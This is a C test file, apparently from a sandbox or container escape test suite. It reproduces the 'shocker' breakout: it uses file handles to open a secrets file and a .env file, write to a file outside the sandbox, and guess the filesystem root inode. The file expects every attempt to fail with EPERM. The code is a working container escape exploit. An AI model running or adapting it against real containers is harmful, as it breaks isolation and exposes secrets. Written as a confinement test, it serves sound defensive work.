// id: FS-12
// title: shocker: name_to_handle_at + open_by_handle_at, root inode guess and walked handles, with and without nested userns
// class: boundary
// expect: EPERM everywhere
// layer: seccomp; CAP_DAC_READ_SEARCH not in init userns
#include "../lib/atk.h"
struct fh {
	unsigned n;
	int t;
	unsigned char d[128];
};
static void try1(const char *tag)
{
	const char *F = cfg("FX"), *W = cfg("WORK");
	char p[4300];
	int mid, mfd = open(W, O_RDONLY | O_DIRECTORY);
	struct fh h = { .n = 128 };
	const char *t[] = { "/vault/secret.txt", "/work/.env",
			    "/outside/canary.txt", "" };
	for (int i = 0; i < 4; i++) {
		snprintf(p, sizeof p, "%s%s", F, t[i]);
		h.n = 128;
		if (syscall(SYS_name_to_handle_at, AT_FDCWD, p, &h, &mid, 0)) {
			printf("%s n2h %s: %s\n", tag, p, strerror(errno));
			continue;
		}
		int fd = syscall(SYS_open_by_handle_at, mfd, &h,
				 i == 2 ? O_RDWR : O_RDONLY);
		if (fd < 0) {
			printf("%s obh %s: %s\n", tag, p, strerror(errno));
			continue;
		}
		struct stat a, b;
		fstat(fd, &a);
		stat(p, &b);
		if (i < 2)
			dumpfd(fd);
		if (i == 2 && write(fd, "pwn", 3) == 3)
			escaped("%s wrote outside by handle", tag);
		close(fd);
	}
	struct fh root = { .n = 8, .t = 1 };
	uint32_t ino = 2, gen = 0;
	memcpy(root.d, &ino, 4);
	memcpy(root.d + 4, &gen, 4);
	int fd = syscall(SYS_open_by_handle_at, mfd, &root,
			 O_RDONLY | O_DIRECTORY);
	if (fd >= 0) {
		char q[4300];
		snprintf(q, sizeof q, "%s/vault/secret.txt", F + 1);
		int g = openat(fd, q, O_RDONLY);
		if (g >= 0)
			dumpfd(g);
		escaped("%s opened fs root by handle", tag);
	}
	printf("%s root handle: %s\n", tag, strerror(errno));
}
int main(int c, char **v)
{
	atk_init(v);
	try1("plain");
	if (!newns(CLONE_NEWNS))
		try1("userns");
	blocked("no handle opened");
}
